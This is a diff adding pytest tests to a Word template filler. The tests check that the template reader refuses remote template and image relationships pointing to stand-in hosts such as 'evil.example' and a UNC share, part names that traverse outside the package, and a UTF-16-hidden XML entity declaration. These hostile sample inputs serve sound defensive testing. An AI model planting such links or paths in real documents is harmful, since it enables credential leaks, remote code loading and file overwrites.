@@ -218,3 +218,42 @@ def test_r13_the_sample_is_what_its_maker_makes_and_has_no_blank_when_all_is_kno
     assert made.missing == ()
     assert "Ann Lee and Bo Lee, 1 Main St, Tampa, FL 33602 (“seller”), and" in texts(made.data)
     assert fill_document(read_template(sample_contract()), EXAMPLES) == made  # the same bytes each time
+
+
+RELS = "word/_rels/settings.xml.rels"
+LINK = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+    'Target="{target}" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "refused"),
+    [
+        ("attachedTemplate", "https://evil.example/t.dotm", True),
+        ("attachedTemplate", r"\\evil\share\t.dotm", True),
+        ("image", "https://evil.example/p.png", True),
+        ("attachedTemplate", "file:///C:\\Users\\Ann\\Normal.dotm", False),
+        ("hyperlink", "https://office.example/terms", False),
+    ],
+)
+def test_nothing_of_a_template_is_fetched_from_elsewhere(kind: str, target: str, refused: bool) -> None:
+    data = changed(word_file("{{ contact_name }}"), {RELS: LINK.format(kind=kind, target=target).encode()})
+    if refused:
+        with pytest.raises(FileProblemError, match="fetch a part of it from elsewhere"):
+            read_template(data, "t.docx")
+    else:
+        assert texts(filled(data, contact_name="Ann Lee").data)[0] == "Ann Lee"
+
+
+@pytest.mark.parametrize("part", ["../evil.txt", "/etc/evil.txt", "word\\..\\..\\evil.txt"])
+def test_a_part_that_lies_outside_is_refused(part: str) -> None:
+    with pytest.raises(FileProblemError, match="lies outside it"):
+        read_template(changed(word_file("{{ contact_name }}"), {part: b"x"}), "t.docx")
+
+
+def test_xml_in_another_encoding_hides_no_declaration() -> None:
+    hidden = '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")
+    with pytest.raises(FileProblemError, match="declares words of its own"):
+        read_template(changed(word_file("{{ contact_name }}"), {"word/theme.xml": hidden}), "t.docx")
